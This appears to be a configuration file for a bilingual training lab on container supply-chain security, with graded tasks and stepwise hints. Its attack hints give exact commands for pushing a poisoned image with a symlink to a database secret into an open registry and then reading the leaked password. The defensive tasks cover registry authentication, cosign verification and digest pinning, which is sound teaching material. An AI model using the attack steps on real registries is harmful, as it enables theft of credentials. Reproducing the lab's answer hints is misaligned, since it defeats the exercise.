import type { Lab } from '#lab';
import { messages } from './messages.ts';

export default {
  label: 'L2.2',
  title: { de: 'Vergiftetes Image', en: 'Poisoned Image' },
  summary: {
    de: 'Die Registry nimmt Images von jedem an, und der Shop liefert aus, was gerade unter dem Tag 1.4 liegt. Schieb ihm ein vergiftetes Image unter. Sorge danach dafür, dass nur läuft, was das Release-Team unterschrieben hat.',
    en: 'The registry takes images from anybody, and the shop deploys whatever the tag 1.4 happens to point at. Slip it a poisoned image. Then see to it that only what the release team has signed gets to run.',
  },
  minutes: 50,
  difficulty: 3,
  needs: [],
  checkLimitSeconds: 90,
  attack: {
    title: {
      de: 'Bring den Shop dazu, das Passwort seiner Datenbank herauszugeben',
      en: 'Make the shop hand out its database’s password',
    },
    points: 30,
    hints: [
      {
        de: 'Die Registry auf Port 5000 fragt nicht, wer da ist: `curl http://dockerhost:5000/v2/shop/web/tags/list`. Gilt das auch beim Schreiben?',
        en: 'The registry on port 5000 does not ask who is there: `curl http://dockerhost:5000/v2/shop/web/tags/list`. Does that hold for writing as well?',
      },
      {
        de: 'Im Container liegt das Passwort unter /run/secrets/db, und ausgeliefert wird alles unter /www. Ein einziger symbolischer Link im Image verbindet beides. `push-trojan` legt einen Ordner über ein Image und schiebt es unter demselben Tag zurück.',
        en: 'In the container the password lies at /run/secrets/db, and everything below /www is served. A single symbolic link in the image joins the two. `push-trojan` lays a folder over an image and pushes it back under the same tag.',
      },
      {
        de: '`mkdir -p trojan/www; ln -s /run/secrets/db trojan/www/loot; push-trojan dockerhost:5000 shop/web:1.4 trojan`, dann `curl -X POST http://dockerhost:9000/cgi-bin/deploy` und `curl http://dockerhost:8080/www/loot`.',
        en: '`mkdir -p trojan/www; ln -s /run/secrets/db trojan/www/loot; push-trojan dockerhost:5000 shop/web:1.4 trojan`, then `curl -X POST http://dockerhost:9000/cgi-bin/deploy` and `curl http://dockerhost:8080/www/loot`.',
      },
    ],
  },
  tasks: {
    'authenticated-push': {
      title: { de: 'Nur wer sich ausweist, darf in die Registry schreiben', en: 'Only those who log in may write to the registry' },
      points: 25,
      hints: [
        {
          de: 'Die Registry liest `/etc/docker/registry/config.yml`. Es gibt darin einen Abschnitt `auth`; die Zugangsdaten der CI stehen schon in `/srv/shop/registry-cred`.',
          en: 'The registry reads `/etc/docker/registry/config.yml`. There is a section `auth` for it; CI’s credentials are already in `/srv/shop/registry-cred`.',
        },
        {
          de: '`htpasswd -Bbn NAME PASSWORT` erzeugt die Zeile für die Passwortdatei (die Registry versteht nur bcrypt, also `-B`). In der Konfiguration: `auth:`, darunter `htpasswd:` mit `realm` und `path`.',
          en: '`htpasswd -Bbn NAME PASSWORD` makes the line for the password file (the registry understands bcrypt only, hence `-B`). In the configuration: `auth:`, below it `htpasswd:` with `realm` and `path`.',
        },
        {
          de: '`IFS=: read -r name password </srv/shop/registry-cred; htpasswd -Bbn "$name" "$password" >/etc/docker/registry/htpasswd`, dann in der config.yml `auth: {htpasswd: {realm: registry, path: /etc/docker/registry/htpasswd}}` und `systemctl restart registry`. Danach braucht auch dieser Host `docker login registry.lab:5000`. Der Dienst läuft als docker-registry und muss die Datei lesen können.',
          en: '`IFS=: read -r name password </srv/shop/registry-cred; htpasswd -Bbn "$name" "$password" >/etc/docker/registry/htpasswd`, then in config.yml `auth: {htpasswd: {realm: registry, path: /etc/docker/registry/htpasswd}}`, and `systemctl restart registry`. After that this host needs `docker login registry.lab:5000`, too. The service runs as docker-registry and must be able to read the file.',
        },
      ],
    },
    'runs-signed': {
      title: { de: 'Im Shop läuft ein Image, für das das Release-Team unterschrieben hat', en: 'The shop runs an image that the release team has signed' },
      points: 25,
      hints: [
        {
          de: 'Prüfe, was jetzt läuft: `cosign verify --key /root/keys/release.pub --insecure-ignore-tlog=true --allow-insecure-registry registry.lab:5000/shop/web:1.4`.',
          en: 'Verify what runs now: `cosign verify --key /root/keys/release.pub --insecure-ignore-tlog=true --allow-insecure-registry registry.lab:5000/shop/web:1.4`.',
        },
        {
          de: 'Überschrieben wurde nur das Tag. Der alte Inhalt liegt noch in der Registry, und seine Signatur auch: unter einem Tag, das `sha256-DIGEST.sig` heißt. `curl http://registry.lab:5000/v2/shop/web/tags/list` (nach der ersten Aufgabe mit `-u`).',
          en: 'Only the tag was overwritten. The old content is still in the registry, and so is its signature: under a tag called `sha256-DIGEST.sig`. `curl http://registry.lab:5000/v2/shop/web/tags/list` (with `-u` after the first task).',
        },
        {
          de: 'Trag `registry.lab:5000/shop/web@sha256:DIGEST` in /srv/shop/release ein, prüfe genau diese Angabe mit cosign und rufe `/srv/shop/deploy.sh` auf.',
          en: 'Put `registry.lab:5000/shop/web@sha256:DIGEST` into /srv/shop/release, verify exactly that with cosign, and run `/srv/shop/deploy.sh`.',
        },
      ],
    },
    'pinned-by-digest': {
      title: { de: 'Der Container ist an den Digest gebunden, nicht an ein Tag', en: 'The container is pinned to the digest, not to a tag' },
      points: 25,
      hints: [
        {
          de: '`docker inspect --format "{{.Config.Image}}" shop-web-1` zeigt, womit der Container gestartet wurde.',
          en: '`docker inspect --format "{{.Config.Image}}" shop-web-1` shows what the container was started with.',
        },
        {
          de: 'Compose nimmt statt `NAME:TAG` auch `NAME@sha256:…`. Wird der Digest falsch abgeschrieben, startet nichts; das Tag dagegen zeigt morgen vielleicht woandershin.',
          en: 'Instead of `NAME:TAG`, Compose takes `NAME@sha256:…` as well. With a digest copied wrongly nothing starts; a tag, however, may point elsewhere tomorrow.',
        },
      ],
    },
    'verified-before-deploy': {
      title: {
        de: '`deploy.sh` liefert nur aus, was der Release-Schlüssel unterschrieben hat',
        en: '`deploy.sh` deploys only what the release key has signed',
      },
      points: 40,
      onRequest: true,
      hints: [
        {
          de: 'Diese Prüfung legt neue Images in die Registry und ruft `deploy.sh REFERENZ` auf: ohne Signatur, mit fremder, mit geliehener und mit echter. Falsche muss das Skript ablehnen, mit einem Ende ungleich 0, und die alte Version läuft weiter.',
          en: 'This check puts new images into the registry and calls `deploy.sh REFERENCE`: without a signature, with somebody else’s, with a borrowed one, and with a real one. The script must refuse the wrong ones, end with something other than 0, and the old version goes on running.',
        },
        {
          de: '`cosign verify --key /root/keys/release.pub --insecure-ignore-tlog=true --allow-insecure-registry "$REFERENZ"` endet mit 0, wenn die Signatur stimmt. Sieh nach, ob in deinem Skript wirklich dieses Ende zählt: `|| true` und eine Pipe ohne `pipefail` verschlucken es.',
          en: '`cosign verify --key /root/keys/release.pub --insecure-ignore-tlog=true --allow-insecure-registry "$REFERENCE"` ends with 0 when the signature is right. Make sure that this is what counts in your script: `|| true` and a pipe without `pipefail` swallow it.',
        },
        {
          de: 'Setze unter `set -euo pipefail` vor `docker compose` die Zeile mit `cosign verify`. Schlägt sie fehl, endet das Skript dort.',
          en: 'Below `set -euo pipefail`, put the line with `cosign verify` before `docker compose`. If it fails, the script ends there.',
        },
      ],
    },
    'no-gap': {
      title: { de: 'Zwischen Prüfen und Starten passt kein anderes Image', en: 'No other image fits between verifying and starting' },
      points: 15,
      onRequest: true,
      hints: [
        {
          de: 'Wie oft fragt dein Skript die Registry, wohin das Tag zeigt? Bei zwei Fragen kann es zwei Antworten geben. Diese Prüfung hängt das Tag um, sobald es das erste Mal gelesen wurde.',
          en: 'How often does your script ask the registry where the tag points? Two questions can have two answers. This check moves the tag as soon as it has been read for the first time.',
        },
        {
          de: '`cosign verify --output json` gibt aus, welchen Digest es geprüft hat: `.[0].critical.image["docker-manifest-digest"]`. Starte genau den.',
          en: '`cosign verify --output json` says which digest it has verified: `.[0].critical.image["docker-manifest-digest"]`. Start that one.',
        },
        {
          de: '`verified=$(cosign verify … --output json "$reference")`, `digest=$(jq -er \'.[0].critical.image["docker-manifest-digest"]\' <<<"$verified")`, `RELEASE=registry.lab:5000/shop/web@$digest docker compose up --detach --pull always`.',
          en: '`verified=$(cosign verify … --output json "$reference")`, `digest=$(jq -er \'.[0].critical.image["docker-manifest-digest"]\' <<<"$verified")`, `RELEASE=registry.lab:5000/shop/web@$digest docker compose up --detach --pull always`.',
        },
      ],
    },
  },
  messages,
} as const satisfies Lab;
